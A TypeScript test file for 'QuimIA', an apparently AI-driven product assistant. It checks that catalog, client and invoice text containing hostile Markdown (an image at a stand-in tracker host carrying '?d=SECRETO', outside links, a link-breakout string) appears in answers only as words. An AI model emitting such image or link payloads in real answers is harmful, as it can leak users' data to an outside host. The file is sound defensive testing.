import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Nodes } from 'mdast';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { toString } from 'mdast-util-to-string';
import { gfm } from 'micromark-extension-gfm';
import type { ProductAnswer } from '@quimia/contracts';
import { eq, sql } from 'drizzle-orm';
import { products } from '../../db/schema';
import { queryRows } from '../../db/sql-helpers';
import { askQuimia } from '../../test/chat-events';
import { buildTestApp, requestsTo, type TestApp } from '../../test/test-app';
import { FIXTURE, generateSales, seedCatalog } from '../demo-data';
import { markdownLink, markdownText } from './markdown-text';

// Stored text is data in QuimIA's answers: a product, a formula, a client or an imported invoice
// line whose text is written as Markdown (an image of another host, a link, a heading, a table
// cell) reads as those characters, and the answer links only to this site's pages.

const TRACKER = 'https://tracker.example';
/** Markdown a hostile text may hold: an image and links to another host, a cell break. */
const hostile = (tag: string) =>
  `${tag} ![i](${TRACKER}/${tag}.png?d=SECRETO) [clic](${TRACKER}/${tag}) <${TRACKER}/${tag}> www.tracker.example | x@tracker.example`;
/** The same within a short field (a name, a presentation). */
const short = (tag: string) => `${tag} ![i](//tracker.example/i.png) [c](${TRACKER}) | x`;

/** The nodes of an answer's Markdown, as the browser's renderer (GFM) parses it. */
function nodesOf(markdown: string): Nodes[] {
  const found: Nodes[] = [];
  const walk = (node: Nodes) => {
    found.push(node);
    if ('children' in node) for (const child of node.children) walk(child);
  };
  walk(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }));
  return found;
}

/**
 * Images, links leaving the site, raw HTML and headings the answer would draw. An address
 * written out in the text is still an address the renderer recognises (GFM autolinks work on
 * the text itself): its link shows the address and the page draws it as text, so it is allowed.
 */
function unsafeNodes(markdown: string) {
  return nodesOf(markdown).flatMap((node) => {
    if (node.type === 'image' || node.type === 'imageReference' || node.type === 'html') {
      return [node.type];
    }
    if (node.type === 'heading') return [`heading ${toString(node)}`];
    if (node.type === 'link' && !/^\/(?![/\\])/.test(node.url)) {
      const shown = toString(node);
      const literal = [shown, `http://${shown}`, `mailto:${shown}`].includes(node.url);
      return literal ? [] : [`link ${node.url}`];
    }
    return [];
  });
}

describe('markdownText and markdownLink', () => {
  it('keep the words of any text and make no Markdown of it', () => {
    const text = `${hostile('a')}\n# Título\n\n- lista\n1. uno\n***\n&#91;x&#93;(${TRACKER})`;
    const written = markdownText(text);
    expect(written).not.toContain('\n');
    expect(unsafeNodes(written)).toEqual([]);
    expect(toString(fromMarkdown(written))).toBe(text.replace(/\s+/g, ' '));
  });

  it('link only to paths of this site', () => {
    expect(markdownLink('Ácido [cítrico]', '/product/acido')).toBe(
      '[Ácido \\[cítrico\\]](/product/acido)',
    );
    expect(markdownLink('x', `${TRACKER}/a`)).toBe('x');
    expect(markdownLink('x', '//tracker.example/a')).toBe('x');
    expect(markdownLink('x', '/\\tracker.example/a')).toBe('x');
    expect(markdownLink('x', '/a) ![i](https://tracker.example/i.png')).toBe(
      '[x](/a%29%20![i]%28https://tracker.example/i.png)',
    );
    expect(unsafeNodes(markdownLink('x', '/a) ![i](https://tracker.example/i.png'))).toEqual([]);
  });
});

describe('QuimIA writes stored text as data', () => {
  let app: TestApp;
  let seller: string;
  const http = requestsTo(() => app);
  let clientId = '';

  beforeAll(async () => {
    app = await buildTestApp();
    const [first, ...others] = FIXTURE.products;
    const [formula, ...otherFormulas] = FIXTURE.formulas;
    await seedCatalog(app.db, {
      products: [
        {
          ...first!,
          name: `Ácido cítrico ${short('nombre')}`,
          description: `Acidulante.\n# Título\n\n${hostile('descripcion')}`,
          casNumber: '77-92-9',
          presentations: (first!.presentations ?? []).map((presentation) => ({
            ...presentation,
            label: `${presentation.label} ${short('p')}`,
          })),
          ghs: { ...first!.ghs, hazardStatements: [`H319 ${hostile('peligro')}`] },
        },
        ...others,
      ],
      formulas: [
        {
          ...formula!,
          title: `Jabón líquido ${short('titulo')}`,
          summary: hostile('resumen'),
          ingredients: (formula!.ingredients ?? []).map((ingredient) =>
            ingredient.productCode ? ingredient : { ...ingredient, name: hostile('agua') },
          ),
        },
        ...otherFormulas,
      ],
    });
    await generateSales(app.db, { lines: 60 });
    seller = (await app.createUser({ role: 'vendedor' })).token;
    // Imported clients and invoice lines (SRI XML) with the same text.
    await app.db.execute(
      sql`update business_parties set name = 'Cliente ' || identification || ' ' || ${hostile('cliente')}`,
    );
    const [party] = await queryRows<{ id: string }>(
      app.db,
      sql`select party_id as id from tax_document_lines group by 1 order by count(*) desc limit 1`,
    );
    clientId = party!.id;
    await app.db.execute(
      sql`update tax_document_lines set product_id = null, code = null,
                 description = ${hostile('linea')} || ' ' || position
           where party_id = ${clientId}`,
    );
  });
  afterAll(() => app?.close());

  it("answers staff's questions with the stored text as words, linking only to this site", async () => {
    const [{ identification }] = (await queryRows<{ identification: string }>(
      app.db,
      sql`select identification from business_parties where id = ${clientId}`,
    )) as [{ identification: string }];
    const questions = [
      'precio del ácido cítrico',
      'stock del ácido cítrico',
      'seguridad del ácido cítrico',
      'busca ácido cítrico',
      'fórmula de jabón líquido',
      `qué compra el cliente ${identification}`,
      'ventas de ácido cítrico',
      'costo de la fórmula jabón líquido',
      'resumen del negocio',
    ];
    for (const question of questions) {
      const { text, last } = await askQuimia(app, seller, question);
      expect(last, question).toMatchObject({ type: 'done' });
      expect(unsafeNodes(text), question).toEqual([]);
      // The hostile text is there, as its words (the tracker's address included).
      expect(toString(fromMarkdown(text)), question).toContain('tracker.example');
    }
    const client = await askQuimia(app, seller, `qué compra el cliente ${identification}`);
    expect(toString(fromMarkdown(client.text))).toContain(
      `linea ![i](${TRACKER}/linea.png?d=SECRETO)`,
    );
  });

  it("answers a visitor's question on the product page with its text as words", async () => {
    const [product] = await app.db.select().from(products).where(eq(products.code, 'ACI-001'));
    for (const question of [
      '¿Qué precio tiene?',
      '¿Es peligroso?',
      '¿Para qué sirve?',
      '¿Qué es?',
      '¿En qué fórmulas se usa?',
    ]) {
      const response = await http.post('/api/producto/getRespuestaQuimIA', {
        productId: product!.id,
        question,
      });
      const { answer } = response.json() as ProductAnswer;
      expect(unsafeNodes(answer), question).toEqual([]);
      expect(toString(fromMarkdown(answer)), question).toContain('tracker.example');
    }
  });
});
